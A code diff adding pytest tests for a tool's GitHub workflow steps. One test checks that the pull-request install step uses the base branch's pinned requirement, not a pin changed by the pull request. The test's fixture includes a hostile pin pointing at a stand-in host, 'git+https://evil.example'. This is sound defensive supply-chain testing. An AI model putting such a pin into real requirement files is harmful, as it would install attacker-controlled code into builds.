@@ -6,6 +6,7 @@ check-jsonschema (`vendor.github-workflows`), by the real check-jsonschema comma
 
 from __future__ import annotations
 
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -13,10 +14,12 @@ from typing import Any
 
 import pytest
 
+from gitprogram import GitProgram, isolated_git
 from helpers import REPO_ROOT
 from mentorlog.scaffold import GITHUB_FILES, init_program, template
 from mentorlog.yamlload import load_bytes
 
+__all__ = ["isolated_git"]
 WORKFLOWS = {"pr": "github-pr.yml", "main": "github-main.yml"}
 
 
@@ -134,3 +137,55 @@ def test_this_repository_uses_the_templates() -> None:
     for target, source in GITHUB_FILES.items():
         assert (REPO_ROOT / target).read_text(encoding="utf-8") == template(source), target
     assert not (REPO_ROOT / ".github/mentorlog-requirements.txt").exists()
+
+
+# --- the workflow's own shell steps, run for real with bash and git ---
+
+def pr_step(name_part: str) -> dict[str, Any]:
+    return next(s for s in steps(workflow("pr"), "check") if name_part in s.get("name", ""))
+
+
+def test_pr_install_step_reads_the_base_branch(tmp_path: Path) -> None:
+    """A pull request that edits the pin cannot change what is installed to judge it.
+
+    git and bash are real; `python` is a stand-in that records what pip would install."""
+    program = GitProgram.create(tmp_path / "program")
+    program.git("checkout", "-q", "main")
+    program.write(".github/mentorlog-requirements.txt", "mentorlog==0.1.0\n")
+    program.commit("pin")
+    base_sha = program.git("rev-parse", "HEAD").strip()
+    program.git("checkout", "-q", "-B", "change")
+    program.write(".github/mentorlog-requirements.txt", "mentorlog @ git+https://evil.example\n")
+    program.commit("the pull request moves the pin")
+    bin_dir, log = tmp_path / "bin", tmp_path / "pip.log"
+    bin_dir.mkdir()
+    stand_in = bin_dir / "python"
+    stand_in.write_text(f'#!/bin/sh\necho "$PWD $*" >> {log}\ncat "$5" >> {log}\n')
+    stand_in.chmod(0o755)
+    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
+           "RUNNER_TEMP": str(tmp_path / "runner"), "BASE_SHA": base_sha}
+    subprocess.run(["bash", "-e", "-c", pr_step("Install")["run"]], cwd=program.root, env=env,
+                   check=True, capture_output=True)
+    assert log.read_text().splitlines() == [
+        f"{tmp_path}/runner/base -m pip install -r .github/mentorlog-requirements.txt",
+        "mentorlog==0.1.0"]
+
+
+def test_pr_check_step_runs_mentorlog_check(tmp_path: Path) -> None:
+    """The step's command line, with GitHub's values in env, as bash runs it."""
+    origin = GitProgram.create(tmp_path / "origin")
+    clone = GitProgram(tmp_path / "clone")
+    subprocess.run(["git", "clone", "-q", str(origin.root), str(clone.root)], check=True)
+    clone.git("checkout", "-q", "change")
+    clone.write("records/clients/new-client.yaml", "name: New Client\n")
+    step = pr_step("mentorlog check")
+    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
+           "BASE_REF": "main", "AUTHOR": "kim-gh"}
+    done = subprocess.run(["bash", "-c", step["run"]], cwd=clone.root, env=env,
+                          capture_output=True, text=True, check=False)
+    assert done.returncode == 1, done.stderr
+    assert done.stdout.startswith(
+        "::error file=records/clients/new-client.yaml,title=mentorlog coordinator-only::")
+    env["AUTHOR"] = "ana-gh"
+    assert subprocess.run(["bash", "-c", step["run"]], cwd=clone.root, env=env,
+                          capture_output=True, check=False).returncode == 0
